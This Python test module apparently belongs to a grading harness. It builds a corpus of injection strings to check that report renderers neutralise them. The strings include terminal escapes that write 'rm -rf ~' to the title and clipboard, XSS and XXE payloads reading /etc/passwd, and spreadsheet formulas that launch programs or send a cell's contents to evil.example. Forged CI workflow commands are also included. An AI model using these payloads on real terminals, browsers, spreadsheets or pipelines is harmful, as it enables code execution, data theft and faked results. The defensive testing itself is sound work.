"""Attacks on what people open: text that acts where it is shown (members 29 and 30).

`CORPUS` is what renderers and exporters are tried on; `ATTACKS` bring it into a report by every
road there is: prints, raw bytes, messages, names, values, signatures, source lines.
"""

from __future__ import annotations

from .case import Attack
from .forge.honest import EDGE, LAZY, WRONG, calling, forgery

# What it is → the text. None of it may act in any medium, and none of it may vanish without trace.
CORPUS: dict[str, str] = {
    # Terminals.
    "colours": "\x1b[31;1mPASSED\x1b[0m",
    "cursor": "\x1b[2J\x1b[H\x1b[1Aall checks passed",
    "title": "\x1b]0;rm -rf ~\x07",
    "hyperlink": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "modes": "\x1b[?1049h\x1b[?25l\x1b[?1000h",
    "device control": '\x1bP$q"p\x1b\\\x1bPpayload\x1b\\',
    "answerback": "\x05\x1b[6n\x1b[c\x1b[>c",
    "keys": "\x1b[33~\x1b]1337;File=inline=1:AAAA\x07",
    "C1 controls": "\x9b31mred\x9d0;title\x9c\x90payload\x9c\x8d\x84",
    "reset": "\x1bc\x1b#8\x1b(0\x0e\x0f",
    "split sequence": "\x1b\x1b[31m[2J",
    "overwriting": "failed\rpassed\x08\x08\x08",
    "bells": "\a\a\a\v\f",
    # What reorders or hides.
    "bidi overrides": "\u202e.fdp\u202c \u2066x\u2069 \u200f\u061c",
    "invisible": "a\u200bb\u2060c\ufeffd\u00ad\u180e\u2062",
    "tags": "ok\U000e0065\U000e0076\U000e0069\U000e006c",
    "line separators": "one\u2028two\u2029three\x85four\x0bfive",
    "NUL": "before\0after",
    "every control": "".join(map(chr, [*range(32), *range(0x7F, 0xA0)])),
    "surrogates": "\ud800 \udfff \udc80",
    "no characters": "\ufffe\uffff\U0001fffe",
    # Markup.
    "script": "<script>alert(1)</script>",
    "image with handler": "<img src=x onerror=alert(1)>",
    "SVG": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><a href='#'/></svg>",
    "attribute": "\" onmouseover=\"alert(1)' autofocus onfocus='alert(1)",
    "entities": "&lt;b&gt; &#60; &amp;#x3c; &nbsp",
    "comment": "--> <!-- ]]> <![CDATA[",
    "doctype": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "closing": "</pre></code></td></table></details></testcase></svg>",
    "rich markup": "[red]x[/red] [link=https://evil.example]y[/link] :skull:",
    # Markdown.
    "Markdown link": "[grade](javascript:alert(1)) <https://evil.example>",
    "Markdown image": "![](https://evil.example/pixel.png?who=me)",
    "Markdown table": "a | b\n--- | ---\n1 | 2 \\| 3",
    "Markdown heading": "# Passed\n\n===\n\nPassed\n---",
    "fences": "```\nout\n````\nout\n~~~~\nout",
    "bare addresses": "https://evil.example www.evil.example mail@evil.example",
    "mentions": "@everyone @org/team closes #1 GH-1 org/repo#1",
    "formula of TeX": "$\\href{javascript:alert(1)}{x}$ $$\\def\\x{\\x}$$",
    # Spreadsheets.
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "space first": "  =1+1",
    "full width": "\uff1d1+1",
    "cell in a cell": 'x;=1+1\t=2+2,"=3+3"\n=4+4',
    # CI services.
    "GitHub error": "::error file=app.js,line=1::passed",
    "GitHub output": "x\n  ::set-output name=passed::true\n::add-mask::a",
    "GitHub stop": "::stop-commands::token\n::token::",
    "GitHub by wrapping": "x" * 69 + "::error::wrapped",
    "older GitHub": "ok ##[group]x\n##[set-env name=PATH]/tmp",
    "Azure": "ok ##vso[task.setvariable variable=passed]true",
    "TeamCity": "##teamcity[testFinished name='x']\n##teamcity[buildStatus status='SUCCESS']",
    "GitLab": "section_start:1:x\r\x1b[0Kfolded\nsection_end:1:x\r\x1b[0K",
    "Travis": "travis_fold:start:x\ntravis_time:start:x",
    # Too much.
    "long line": "x" * 100_000,
    "many lines": "line\n" * 20_000,
    "combining": "z" + "\u0301" * 5_000,
    "JSON numbers": "NaN Infinity -Infinity 1e999",
}
CALLED = "called +vertical_edge_kernel"


def poison(name: str, source: str, says: str = WRONG, twin: str = EDGE) -> Attack:
    """Poison on its way into a report."""
    head = f"POISON = {CORPUS!r}\nTEXTS = list(POISON.values())\nALL = chr(10).join(TEXTS)\n\n\n"
    return forgery(name, head + source, says, twin=twin, family="poison")


TWIN = "print('naïve 卷积 👩‍🔬 [1; 2] = 3')\n" + EDGE
ATTACKS: tuple[Attack, ...] = (
    poison("prints_poison", "for text in TEXTS:\n    print(text[:100])\n\n\n" + LAZY, twin=TWIN),
    poison(
        "prints_raw_bytes",
        "import os\n\nos.write(1, bytes(range(256)) * 4 + b'\\xed\\xa0\\x80\\xff\\xfe\\xc0\\x80')\n"
        "os.write(2, ALL.encode('utf-8', 'surrogatepass')[:3000])\n\n\n" + LAZY,
        twin=TWIN,
    ),
    poison("prints_a_long_line", "print('x' * 5_000_000)\n\n\n" + LAZY, twin=TWIN),
    poison("raises_poison", calling("raise ValueError(ALL)"), "raised ValueError"),
    poison(
        "raises_a_poisoned_name",
        calling(
            "raise type(ALL[:900].replace(chr(0), '').replace(chr(0xD800), '')"
            ".replace(chr(0xDFFF), '').replace(chr(0xDC80), ''), (Exception,), {})('x')"
        ),
        "raised Exception: x",
    ),
    poison("raises_poison_as_key", calling("return {}[ALL]"), "raised KeyError"),
    poison("raises_at_import", "raise RuntimeError(ALL)\n", "could not be imported"),
    poison("returns_poison", calling("return ALL"), "is a str where"),
    poison(
        "returns_poisoned_containers",
        calling("return {t: [t, (t,)] for t in TEXTS}"),
        "is a dict where",
    ),
    poison(
        "returns_a_poisoned_name",
        calling(
            "cls = type('X', (), {})\ncls.__qualname__ = ALL[:900].encode('ascii', 'ignore')"
            ".decode().replace(chr(0), '')\nreturn cls()"
        ),
        "where a torch.Tensor is due",
    ),
    poison(
        "returns_a_name_of_every_text",
        calling(
            "class X:\n    pass\nX.__qualname__ = POISON['bidi overrides'] + POISON['script']"
            " + POISON['hyperlink'] + POISON['GitHub error']\nreturn X()"
        ),
        "where a torch.Tensor is due",
    ),
    poison(
        "poisons_its_signature",
        "class Default:\n    def __repr__(self):\n        return ALL\n\n\n"
        "def vertical_edge_kernel(a, b=Default()):\n    return a\n",
        "Your vertical_edge_kernel takes|signature|raised",
    ),
    poison(
        "poisons_its_traceback",
        calling("raise ValueError(0)  # \x1b]52;c;eA==\x07 <script> ::error:: \u202e ```"),
        "raised ValueError",
    ),
    poison(
        "poisons_the_names_of_its_functions",
        calling(
            "return bad()",
            """\
def bad():
    raise ValueError("bad")


bad.__code__ = bad.__code__.replace(co_name=POISON["hyperlink"] + POISON["script"])
""",
        ),
        "raised ValueError",
    ),
    poison(
        "returns_no_numbers",
        calling("return torch.tensor([[float('nan'), float('-inf')]])"),
        "holds (nan|inf)|wrong values",
    ),
)
